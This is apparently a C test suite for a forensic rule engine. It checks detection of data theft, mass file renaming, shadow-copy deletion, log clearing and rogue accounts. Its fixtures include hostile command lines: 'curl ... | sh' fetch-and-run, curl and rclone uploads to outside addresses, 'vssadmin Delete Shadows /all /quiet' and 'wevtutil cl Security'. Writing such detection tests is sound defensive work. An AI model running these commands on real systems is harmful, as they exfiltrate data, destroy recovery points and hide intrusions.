#include "assess/conclude_support.h"
#include "base/trace.h"

#define HOUR (INT64_C(3600) * TIME_SECOND)
#define MB UINT64_C(1000000)

static struct trace file_trace(const char *what, const char *path, timestamp time)
{
	struct trace t = trace_new(TRACE_FILE, what);

	t.host = SPAN("ws01");
	t.path = span_text(path);
	t.time = time;
	return t;
}

static struct trace transfer(const char *host, const char *peer, uint64_t out, timestamp time)
{
	struct trace t = trace_new(TRACE_TRANSFER, "flow");

	t.host = span_text(host);
	t.peer = span_text(peer);
	t.bytes_out = out;
	t.bytes_in = 1000;
	t.time = time;
	return t;
}

/* An archive that was found, of the source at hand. */
static void add_archive(struct building *b, const char *path)
{
	open_item(b, path, 0100644);
	close_item(b, path, CLASS_ARCHIVE);
}

TEST(archives_are_staged_where_they_lay_on_the_machine_not_where_evidence_is_kept)
{
	struct building b = new_case("staged");
	struct err err = { 0 };

	assert_true(case_add_source(b.file, SPAN("/tmp/case"), SPAN("folder"), &b.source, &err));
	add_archive(&b, "/tmp/case/all.zip");
	add_archive(&b, "/tmp/case/home/ann/papers.zip");
	add_archive(&b, "/tmp/case/dev/shm/papers.zip");
	add_archive(&b, "/tmp/case/dev/shm/collected.zip");
	assert_true(case_add_source(b.file, SPAN("/tmp/case/dev/shm/collected.zip"), SPAN("file"), &b.source, &err));
	open_item(&b, "/tmp/case/artefacts", 0100644);
	conclude(&b);
	assert_string_equal(ask(&b, "SELECT group_concat(item.path) FROM finding JOIN item ON item.id = "
				    "finding.item JOIN rule ON rule.id = finding.rule WHERE rule.name = "
				    "'kanshiki.staged-archive'"), "/tmp/case/dev/shm/papers.zip");
	case_close(b.file);
}

static void add_link(struct building *b, const char *path, const char *reason)
{
	struct case_outcome outcome = { .fate = FATE_SKIPPED, .reason = span_text(reason),
					.size = CASE_SIZE_UNKNOWN };
	struct err err = { 0 };

	open_item(b, path, 0120777);
	if (!case_end_item(b->file, b->unit, b->item, &outcome, &err) ||
	    !case_unit_commit(b->file, b->unit, &err))
		fail_msg("%s", err.text);
}

TEST(links_are_weighed_by_where_they_lead)
{
	struct building b = new_case("links");

	add_link(&b, "/mnt/disk/home/ann/.bash_history", "symbolic link to /dev/null");
	add_link(&b, "/mnt/disk/var/log/wtmp", "link to /dev/null");
	add_link(&b, "/mnt/disk/etc/systemd/system/rsyslog.service", "symbolic link to /dev/null");
	add_link(&b, "/mnt/disk/etc/systemd/system/multi-user.target.wants/x.service",
		 "symbolic link to ../../../../home/ann/.cache/x.service");
	open_item(&b, "/mnt/disk/artefacts", 0100644);
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.defence-masked high,kanshiki.history-discarded medium,"
				       "kanshiki.log-discarded high,kanshiki.unit-from-odd-place medium");
	case_close(b.file);
}

TEST(links_that_every_machine_has_accuse_nobody)
{
	struct building b = new_case("usual_links");

	add_link(&b, "/mnt/disk/etc/systemd/system/multi-user.target.wants/cron.service",
		 "symbolic link to /lib/systemd/system/cron.service");
	add_link(&b, "/mnt/disk/lib/systemd/system/hwclock.service", "symbolic link to /dev/null");
	add_link(&b, "/mnt/disk/etc/systemd/system/getty.target.wants/getty@tty1.service",
		 "symbolic link to ../../../../lib/systemd/system/getty@.service");
	add_link(&b, "/mnt/disk/var/log/nginx/access.log", "symbolic link to /dev/stdout");
	add_link(&b, "/mnt/disk/bin", "symbolic link to usr/bin");
	open_item(&b, "/mnt/disk/artefacts", 0100644);
	conclude(&b);
	assert_string_equal(rules(&b), "");
	case_close(b.file);
}

TEST(theft_is_an_episode_where_gathering_meets_sending)
{
	struct building b = begin("episode");
	struct trace made = file_trace("created", "C:\\$Recycle.Bin\\d.rar", START);

	made.bytes_in = 40 * MB;
	add_trace(&b, made);
	add_trace(&b, transfer("ws01", "203.0.113.5:443", 41 * MB, START + HOUR));
	add_trace(&b, file_trace("deleted", "C:\\$Recycle.Bin\\d.rar", START + 2 * HOUR));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.archive-made medium,kanshiki.theft-episode-strong critical");
	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.bytes_sent') || ' ' || "
				    "json_extract(matched, '$.to') || ' ' || json_extract(matched, '$.removed') "
				    "FROM finding_view WHERE rule LIKE '%episode%'"),
			    "41000000 203.0.113.5:443 C:\\$Recycle.Bin\\d.rar");
	case_close(b.file);
}

TEST(theft_needs_the_same_host_and_the_same_days)
{
	struct building b = begin("apart");

	add_trace(&b, file_trace("created", "/tmp/d.tar.gz", START));
	add_trace(&b, transfer("ws02", "203.0.113.5:443", 41 * MB, START + HOUR));
	add_trace(&b, transfer("ws01", "203.0.113.5:443", 41 * MB, START + 100 * HOUR));
	add_trace(&b, transfer("ws01", "10.0.0.5:445", 41 * MB, START + HOUR));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.archive-made medium");
	case_close(b.file);
}

TEST(theft_joins_a_packing_command_with_a_sending_one)
{
	struct building b = begin("commands");

	add_trace(&b, command_trace("rar.exe a -hpX -v50m C:\\perflogs\\x.rar D:\\drawings", START));
	add_trace(&b, command_trace("rclone.exe copy C:\\perflogs remote:x", START + HOUR));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.packing medium,kanshiki.sending-tool medium,kanshiki.theft-episode high");
	case_close(b.file);
	b = begin("upload");
	add_trace(&b, command_trace("7z a -pX C:\\perflogs\\x.7z D:\\drawings", START));
	add_trace(&b, command_trace("curl -T x.7z https://203.0.113.88/u/", START + HOUR));
	conclude(&b);
	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.to') FROM finding_view "
				    "WHERE rule LIKE '%episode%'"), "203.0.113.88");
	case_close(b.file);
}

/* What goes to a share outside is sent; what goes to one within is everyday work. */
TEST(writing_to_a_share_within_is_no_sending)
{
	const char *const peers[] = { "10.0.0.9:445", "203.0.113.88:445" };

	for (size_t i = 0; i < 2; i++) {
		struct building b = begin(i ? "share_out" : "share_in");
		struct trace t = transfer("ws01", peers[i], UINT64_C(1) << 30, START + HOUR);

		t.what = SPAN("upload");
		t.path = SPAN("\\\\fs\\data\\x.7z");
		add_trace(&b, command_trace("7z a -pX C:\\perflogs\\x.7z D:\\drawings", START));
		add_trace(&b, t);
		conclude(&b);
		assert_string_equal(ask(&b, "SELECT count(*) FROM finding_view WHERE rule LIKE '%episode%'"), i ? "1" : "0");
		case_close(b.file);
	}
}

static struct trace tool_trace(const char *program, const char *command, timestamp time)
{
	struct trace t = command_trace(command, time);

	t.program = span_text(program);
	return t;
}

/* Each day's bytes are those of the place that the tool's own connections name. */
TEST(theft_is_seen_where_a_tool_sends_without_packing)
{
	struct building b = begin("daily");
	struct trace own;
	char first[96];

	for (int day = 0; day < 3; day++) {
		add_trace(&b, tool_trace("C:\\ProgramData\\r\\rclone.exe", "rclone.exe copy D:\\design remote:d",
					 START + day * 24 * HOUR));
		/* Once more within reach of the same sending, which counts once. */
		add_trace(&b, tool_trace("C:\\ProgramData\\r\\rclone.exe", "rclone.exe copy D:\\design remote:d",
					 START + day * 24 * HOUR - 60 * TIME_SECOND));
		own = transfer("ws01", "203.0.113.7:443", UINT64_MAX, START + day * 24 * HOUR + TIME_SECOND);
		own.program = SPAN("c:\\programdata\\r\\RCLONE.EXE");
		add_trace(&b, own);
		add_trace(&b, transfer("ws01", "203.0.113.7:443", 20 * MB, START + day * 24 * HOUR + 60 * TIME_SECOND));
		add_trace(&b, transfer("ws01", "203.0.113.8:443", 90 * MB, START + day * 24 * HOUR + 60 * TIME_SECOND));
	}
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.sent-by-tool high");
	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.bytes_sent') || ' ' || json_extract(matched, "
				    "'$.times') || ' ' || json_extract(matched, '$.to') FROM finding"),
			    "60000000 6 203.0.113.7");
	snprintf(first, sizeof first, "SELECT time - %lld FROM finding", (long long)(START - 60 * TIME_SECOND));
	assert_string_equal(ask(&b, first), "0");
	case_close(b.file);
	b = begin("unknown");
	add_trace(&b, tool_trace("C:\\x\\bitsadmin.exe", "bitsadmin /transfer j /upload /priority high https://x/ y", START));
	add_trace(&b, tool_trace("C:\\x\\bitsadmin.exe", "bitsadmin /transfer j /download https://x/ y", START));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.sending-tool medium");
	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.times') FROM finding"), "1");
	case_close(b.file);
	b = begin("drive");
	add_trace(&b, tool_trace("C:\\Windows\\System32\\Robocopy.exe", "robocopy D:\\d \\\\tsclient\\C\\in /E", START));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.sent-by-tool high");
	case_close(b.file);
}

TEST(theft_knows_a_programs_own_data_folder)
{
	struct building b = begin("own place");
	struct trace t = file_trace("created", "C:\\ProgramData\\Qx Endpoint\\q\\1.zip", START);

	t.program = SPAN("C:\\Program Files\\Qx Endpoint\\agent.exe");
	add_trace(&b, t);
	conclude(&b);
	assert_string_equal(rules(&b), "");
	case_close(b.file);
	b = begin("other");
	t.path = SPAN("C:\\ProgramData\\Other\\1.zip");
	add_trace(&b, t);
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.archive-made medium");
	case_close(b.file);
	b = begin("odd");
	t.path = SPAN("C:\\ProgramData\\Qx Endpoint\\q\\1.zip");
	t.program = SPAN("C:\\ProgramData\\Qx Endpoint\\agent.exe");
	add_trace(&b, t);
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.archive-made medium");
	case_close(b.file);
}

TEST(theft_leaves_daily_work_alone)
{
	struct building b = begin("office");

	add_trace(&b, file_trace("created", "C:\\Users\\ann\\Documents\\report.zip", START));
	add_trace(&b, command_trace("\"C:\\Program Files\\7-Zip\\7zFM.exe\" report.zip", START));
	add_trace(&b, transfer("ws01", "203.0.113.5:443", 41 * MB, START + HOUR));
	add_trace(&b, command_trace("tar czf backup.tar.gz /home/ann/work", START));
	conclude(&b);
	assert_string_equal(rules(&b), "");
	case_close(b.file);
}

/* `count` files of a user, a second apart. */
static void add_mass(struct building *b, const char *what, const char *ending, size_t count,
		     int64_t apart)
{
	for (size_t i = 0; i < count; i++) {
		char path[100], old[100];
		struct trace t;

		snprintf(path, sizeof path, "C:\\Users\\ann\\Documents\\%zu.docx%s", i, ending);
		snprintf(old, sizeof old, "%zu.docx", i);
		t = file_trace(what, path, START + (int64_t)i * apart);
		t.name = span_text(old);
		add_trace(b, t);
	}
}

TEST(destruction_is_seen_in_masses_of_renames_and_deletes)
{
	struct building b = begin("masses");

	add_mass(&b, "renamed", ".locked", 150, TIME_SECOND);
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.mass-rename high");
	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.files') || json_extract(matched, "
				    "'$.new_ending') FROM finding"), "150.locked");
	case_close(b.file);
	b = begin("deletes");
	add_mass(&b, "deleted", "", 600, TIME_SECOND / 2);
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.mass-delete medium");
	case_close(b.file);
}

static void add_pictures(struct building *b, const char *old_ending, const char *ending)
{
	for (int i = 0; i < 150; i++) {
		char path[100], old[100];
		struct trace t;

		snprintf(path, sizeof path, "D:\\photos\\2017 %d%s", i, ending);
		snprintf(old, sizeof old, "IMG_%d%s", i, old_ending);
		t = file_trace("renamed", path, START + i * TIME_SECOND);
		t.name = span_text(old);
		add_trace(b, t);
	}
}

TEST(destruction_tells_sorting_from_encrypting)
{
	struct building b = begin("sorted");

	add_pictures(&b, ".jpeg", ".JPG");
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.mass-sorted low");
	case_close(b.file);
	b = begin("disguised");
	add_pictures(&b, ".docx", ".jpg");
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.mass-rename high");
	case_close(b.file);
}

TEST(destruction_leaves_slow_changes_and_caches_alone)
{
	struct building b = begin("slow");

	add_mass(&b, "renamed", ".bak", 150, 60 * TIME_SECOND);
	for (int i = 0; i < 1000; i++)
		add_trace(&b, file_trace("deleted", "C:\\Windows\\Temp\\x.tmp", START));
	conclude(&b);
	assert_string_equal(rules(&b), "");
	case_close(b.file);
}

TEST(destruction_knows_commands_that_prevent_repair)
{
	struct building b = begin("shadows");

	add_trace(&b, command_trace("vssadmin.exe Delete Shadows /all /quiet", START));
	add_trace(&b, command_trace("vssadmin list shadows", START));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.shadows-removed high");
	assert_string_equal(ask(&b, "SELECT count(*) FROM finding"), "1");
	case_close(b.file);
	b = begin("oldest");
	add_trace(&b, command_trace("vssadmin delete shadows /for=D: /oldest /quiet", START));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.oldest-shadow-removed low");
	case_close(b.file);
}

TEST(obstruction_is_seen_in_settings_times_and_commands)
{
	struct building b = begin("hiding");
	struct trace off = trace_new(TRACE_SETTING, "defence off"), fine = off;

	off.technique = SPAN("T1562.001");
	fine.what = SPAN("proxy");
	add_trace(&b, off);
	add_trace(&b, fine);
	add_trace(&b, file_trace("times differ", "C:\\Windows\\x.dll", START));
	add_trace(&b, command_trace("wevtutil cl Security", START));
	add_trace(&b, command_trace("wevtutil qe Security", START));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.defence-off high,kanshiki.hiding-command high,"
				       "kanshiki.times-set-back medium");
	assert_string_equal(ask(&b, "SELECT count(*) FROM finding"), "3");
	case_close(b.file);
}

TEST(obstruction_wonders_about_an_empty_wtmp_only_where_there_were_sessions)
{
	struct building b = new_case("wtmp");
	struct trace t = trace_new(TRACE_SESSION, "shell");

	open_item(&b, "/mnt/disk/var/log/wtmp", 0100644);
	close_item(&b, "", CLASS_OTHER);
	open_item(&b, "/mnt/disk/x", 0100644);
	conclude(&b);
	assert_string_equal(rules(&b), "");
	open_item(&b, "/mnt/disk/var/log/lastlog", 0100644);
	add_trace(&b, t);
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.wtmp-empty high");
	case_close(b.file);
}

static struct trace session(const char *what, const char *peer, timestamp time)
{
	struct trace t = trace_new(TRACE_SESSION, what);

	t.host = SPAN("ws01");
	t.user = SPAN("ann");
	t.peer = span_text(peer);
	t.time = time;
	return t;
}

TEST(sessions_from_outside_and_guessed_ones_are_told)
{
	struct building b = begin("sessions");

	for (int i = 0; i < 60; i++)
		add_trace(&b, session("failed logon", "10.0.0.9", START + i * TIME_SECOND));
	add_trace(&b, session("logon", "10.0.0.9", START + 70 * TIME_SECOND));
	add_trace(&b, session("remote desktop", "203.0.113.7", START));
	add_trace(&b, session("logon", "192.168.1.4", START));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.guessed-logon high,kanshiki.session-from-outside medium");
	assert_string_equal(ask(&b, "SELECT count(*) FROM finding"), "2");
	case_close(b.file);
}

TEST(starts_weigh_what_the_ledger_says)
{
	struct building b = new_case("starts_weigh");
	struct trace known = trace_new(TRACE_KNOWN, "package file"), t = trace_new(TRACE_AUTOSTART, "cron");

	open_item(&b, "/mnt/disk/var/lib/dpkg/info/x.md5sums", 0100644);
	known.path = SPAN("usr/bin/ls");
	known.digest = SPAN("md5:11111111111111111111111111111111");
	add_trace(&b, known);
	close_item(&b, "md5sums", CLASS_OTHER);
	add_program(&b, "/mnt/disk/usr/bin/ls", "md5:22222222222222222222222222222222");
	add_program(&b, "/mnt/disk/dev/shm/.x/run", "md5:33333333333333333333333333333333");
	add_program(&b, "/mnt/disk/opt/tool", "md5:44444444444444444444444444444444");
	open_item(&b, "/mnt/disk/etc/cron.d/x", 0100644);
	t.program = SPAN("/dev/shm/.x/run");
	add_trace(&b, t);
	t.program = SPAN("/opt/tool");
	add_trace(&b, t);
	t.program = SPAN("/usr/bin/nothing");
	add_trace(&b, t);
	t.command = SPAN("curl http://203.0.113.9/x | sh");
	add_trace(&b, t);
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.altered-program high,kanshiki.local-start low,"
				       "kanshiki.starts-unknown medium,kanshiki.starts-unknown-strong high,"
				       "kanshiki.telling-start medium,kanshiki.unknown-program medium");
	case_close(b.file);
}

static void add_record(struct building *b, const char *path, timestamp modified, const char *package)
{
	struct trace t = trace_new(TRACE_KNOWN, "package file");

	b->modified = modified;
	open_item(b, path, 0100644);
	t.path = SPAN("/usr/bin/x");
	t.digest = SPAN("md5:00000000000000000000000000000000");
	t.protocol = SPAN("deb");
	t.name = span_text(package);
	if (package)
		add_trace(b, t);
	close_item(b, path, CLASS_OTHER);
	b->modified = 0;
}

static void add_installed(struct building *b, const char *package)
{
	struct trace t = trace_new(TRACE_KNOWN, "package");
	char path[80];

	snprintf(path, sizeof path, "/mnt/disk/var/lib/dpkg/status.d/%s", package);
	t.path = SPAN("-");
	t.protocol = SPAN("deb");
	t.name = span_text(package);
	open_item(b, path, 0100644);
	add_trace(b, t);
	close_item(b, "status", CLASS_OTHER);
}

TEST(package_records_that_were_turned_are_told)
{
	struct building b = new_case("packages");

	add_installed(&b, "a 1.0");
	add_record(&b, "/mnt/disk/var/lib/dpkg/info/a.list", START, NULL);
	add_record(&b, "/mnt/disk/var/lib/dpkg/info/a.md5sums", START - HOUR, "a");
	add_link(&b, "/mnt/disk/usr/bin/y", "symbolic link to /opt/y");
	open_item(&b, "/mnt/disk/artefacts", 0100644);
	conclude(&b);
	assert_string_equal(rules(&b), "");

	case_close(b.file);
	b = new_case("packages2");
	add_installed(&b, "a 1.0");
	add_record(&b, "/mnt/disk/var/lib/dpkg/info/a.list", START, NULL);
	add_record(&b, "/mnt/disk/var/lib/dpkg/info/a.md5sums", START + HOUR, "a");
	add_record(&b, "/mnt/disk/var/lib/dpkg/info/zz.md5sums", START, "zz");
	add_link(&b, "/mnt/disk/usr/bin/x", "symbolic link to /opt/x");
	open_item(&b, "/mnt/disk/artefacts", 0100644);
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.package-not-installed high,kanshiki.package-record-changed high,"
				       "kanshiki.program-replaced-by-link high");
	case_close(b.file);
}

/* More links than are held against packages: not in silence. */
TEST(package_links_beyond_the_limit_are_told)
{
	struct building b = new_case("many-links");
	struct err err = { 0 };

	add_link(&b, "/mnt/disk/usr/bin/y", "symbolic link to /opt/y");
	assert_true(query_exec(case_db(b.file), "INSERT INTO item(id, unit, source, path, class, fate, reason) WITH RECURSIVE "
			       "n(i) AS (VALUES(1) UNION ALL SELECT i + 1 FROM n WHERE i < 200001) SELECT 1000000 + i, 1, 1, "
			       "'/mnt/disk/usr/lib/l' || i, 'other', 'skipped', 'symbolic link to x' FROM n", &err));
	open_item(&b, "/mnt/disk/artefacts", 0100644);
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.links-not-compared low");
	case_close(b.file);
}

/* Of nearly all at once a copy that kept no times would say the same. */
TEST(package_records_of_a_copy_without_times_are_not_told)
{
	struct building b = new_case("copy");
	char path[80], name[8];

	for (int i = 0; i < 12; i++) {
		snprintf(name, sizeof name, "p%d 1", i);
		add_installed(&b, name);
		snprintf(path, sizeof path, "/mnt/disk/var/lib/dpkg/info/p%d.list", i);
		add_record(&b, path, START, NULL);
		snprintf(path, sizeof path, "/mnt/disk/var/lib/dpkg/info/p%d.md5sums", i);
		snprintf(name, sizeof name, "p%d", i);
		add_record(&b, path, START + HOUR, name);
	}
	open_item(&b, "/mnt/disk/artefacts", 0100644);
	conclude(&b);
	assert_string_equal(rules(&b), "");
	case_close(b.file);
}

static void add_account(struct building *b, const char *what, const char *user, const char *technique,
			const char *state)
{
	struct trace t = trace_new(TRACE_ACCOUNT, what);

	t.host = SPAN("ws01");
	t.user = span_text(user);
	t.technique = span_text(technique);
	t.command = span_text(state);
	add_trace(b, t);
}

TEST(accounts_that_let_others_in_are_told)
{
	struct building b = begin("accounts");

	add_account(&b, "user", "toor", "T1136.001", "");
	add_account(&b, "user", "games", "T1098", "");
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.second-root high,kanshiki.service-logon low");
	case_close(b.file);
	b = begin("accounts2");
	add_account(&b, "user", "games", "T1098", "");
	add_account(&b, "password", "games", "", "set, method y");
	add_account(&b, "password", "eve", "T1078.003", "empty");
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.empty-password medium,kanshiki.service-password high");
	case_close(b.file);
}

TEST(erased_logons_are_told)
{
	struct building b = begin("erased");
	struct trace t = file_trace("records erased", "/var/log/wtmp", START);

	t.technique = SPAN("T1070.002");
	add_trace(&b, t);
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.records-erased high");
	case_close(b.file);
}

/* Each to an ending of its own; pictures that get another ending of pictures are sorted. */
TEST(documents_renamed_to_various_endings_are_a_mass)
{
	struct building b = begin("various");
	char path[64], name[64];

	for (int i = 0; i < 200; i++) {
		struct trace t = file_trace("renamed", "", START + i * TIME_SECOND);

		snprintf(path, sizeof path, "D:\\work\\plan.x%03d", i);
		snprintf(name, sizeof name, "D:\\work\\plan%03d.dwg", i);
		t.path = span_text(path);
		t.name = span_text(name);
		add_trace(&b, t);
	}
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.mass-rename-various high");
	case_close(b.file);
	b = begin("numbers");
	for (int i = 0; i < 200; i++) {
		struct trace t = file_trace("renamed", "", START + i * TIME_SECOND);

		snprintf(path, sizeof path, "D:\\logs\\web.log.%d", i + 1);
		snprintf(name, sizeof name, "D:\\logs\\web.log.%d", i);
		t.path = span_text(path);
		t.name = span_text(name);
		add_trace(&b, t);
	}
	conclude(&b);
	assert_string_equal(rules(&b), "");
	case_close(b.file);
}

static void add_rename(struct building *b, int64_t time, const char *name, unsigned number, const char *ending)
{
	char path[128], old[64];
	struct trace t;

	snprintf(old, sizeof old, "D:\\data\\%s%u.dbx", name, number);
	snprintf(path, sizeof path, "%s.%s", old, ending);
	t = file_trace("renamed", path, time);
	t.name = span_text(old);
	add_trace(b, t);
}

/* More endings than are counted each by itself, an hour apart, hide no mass. */
TEST(destruction_is_seen_behind_very_many_endings)
{
	struct building b = begin("endings");
	char ending[16];

	add_rename(&b, START, "first", 0, "locked");
	for (unsigned i = 0; i < 20000; i++) {
		snprintf(ending, sizeof ending, "e%u", i);
		add_rename(&b, START + (i + 1) * HOUR, "quiet", i, ending);
	}
	for (unsigned i = 0; i < 150; i++)
		add_rename(&b, START + 30000 * HOUR + i * TIME_SECOND, "known", i, "locked");
	for (unsigned i = 0; i < 150; i++)
		add_rename(&b, START + 40000 * HOUR + i * TIME_SECOND, "new", i, "sealed");
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.mass-rename high,kanshiki.mass-rename-various high");
	case_close(b.file);
}

TEST(archives_of_servicing_and_of_package_managers_are_no_gathering)
{
	static const struct {
		const char *program, *path, *rules;
	} rows[] = {
		{ "C:\\Windows\\WinSxS\\amd64_x\\TiWorker.exe", "C:\\Windows\\Temp\\inflight.cab", "" },
		{ "C:\\Users\\x\\TiWorker.exe", "C:\\Windows\\Temp\\inflight.cab", "kanshiki.archive-made medium" },
		{ "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\Temp\\d.rar", "kanshiki.archive-made medium" },
		{ "C:\\Program Files\\nodejs\\node.exe", "C:\\Users\\x\\AppData\\Local\\Temp\\npm-1\\a.tgz", "" },
		{ "C:\\Program Files\\nodejs\\node.exe", "C:\\Windows\\Temp\\a.tgz", "kanshiki.archive-made medium" },
	};

	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		struct building b = begin((const char *[]){ "p0", "p1", "p2", "p3", "p4" }[i]);
		struct trace t = file_trace("created", rows[i].path, START);

		t.program = span_text(rows[i].program);
		add_trace(&b, t);
		conclude(&b);
		assert_string_equal(rules(&b), rows[i].rules);
		case_close(b.file);
	}
}

/* npm that brought itself up to date is told once; a program beside it is told itself. */
TEST(modules_that_replaced_themselves_are_told_once)
{
	struct building b = new_case("modules");
	struct trace known = trace_new(TRACE_KNOWN, "package file");
	char path[80], full[96];

	open_item(&b, "/mnt/disk/var/lib/dpkg/info/npm.md5sums", 0100644);
	known.digest = SPAN("md5:11111111111111111111111111111111");
	for (int i = 0; i < 31; i++) {
		snprintf(path, sizeof path, i ? "usr/share/node_modules/npm/f%02d.js" : "usr/bin/node", i);
		known.path = span_text(path);
		add_trace(&b, known);
	}
	close_item(&b, "md5sums", CLASS_OTHER);
	add_program(&b, "/mnt/disk/usr/bin/node", "md5:22222222222222222222222222222222");
	for (int i = 1; i < 31; i++) {
		snprintf(full, sizeof full, "/mnt/disk/usr/share/node_modules/npm/f%02d.js", i);
		add_program(&b, full, "md5:22222222222222222222222222222222");
	}
	open_item(&b, "/mnt/disk/artefacts", 0100644);
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.altered-module-folder medium,kanshiki.altered-program high");
	assert_string_equal(ask(&b, "SELECT count(*) FROM finding"), "2");
	case_close(b.file);
}
